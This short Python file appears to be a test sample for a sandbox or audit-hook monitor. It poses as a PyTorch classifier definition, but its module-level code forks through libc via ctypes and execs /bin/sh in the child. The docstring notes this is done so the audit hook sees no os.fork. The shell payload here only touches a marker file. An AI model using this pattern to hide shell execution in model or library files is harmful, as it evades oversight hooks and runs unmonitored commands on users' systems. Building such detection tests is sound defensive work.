"""Forks through libc (the audit hook sees no os.fork) and execs a shell in the child."""
import torch
from torch import nn


class Net(nn.Module):
    """A frozen linear classifier: needs no weights file (16,128 multiply-adds)."""

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(48 * 48, 7).requires_grad_(False)

    def forward(self, x):
        return self.fc(x.flatten(1))


import ctypes

libc = ctypes.CDLL(None, use_errno=True)
if libc.fork() == 0:
    argv = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", b"touch __MARKER__", None)
    libc.execv(b"/bin/sh", argv)
    libc._exit(0)
